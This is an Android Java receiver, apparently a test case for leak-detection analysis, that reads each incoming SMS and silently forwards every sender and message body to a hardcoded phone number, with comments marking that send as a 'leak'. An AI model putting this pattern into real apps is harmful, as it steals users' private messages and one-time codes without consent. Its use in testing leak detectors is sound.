package habits;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;

/** Hands each message on to another number. */
public class SmsForward extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Bundle extras = intent.getExtras();
        Object[] pdus = (Object[]) extras.get("pdus");
        String all = "";
        for (Object pdu : pdus) {
            SmsMessage message = SmsMessage.createFromPdu((byte[]) pdu);
            all += message.getOriginatingAddress() + ": " + message.getDisplayMessageBody() + "\n";
        }
        SmsManager sms = SmsManager.getDefault();
        sms.sendTextMessage("+8613800000000", null, all, null, null); // leak
        sms.sendTextMessage("+8613800000000", null, "received " + pdus.length, null, null); // no leak
    }
}
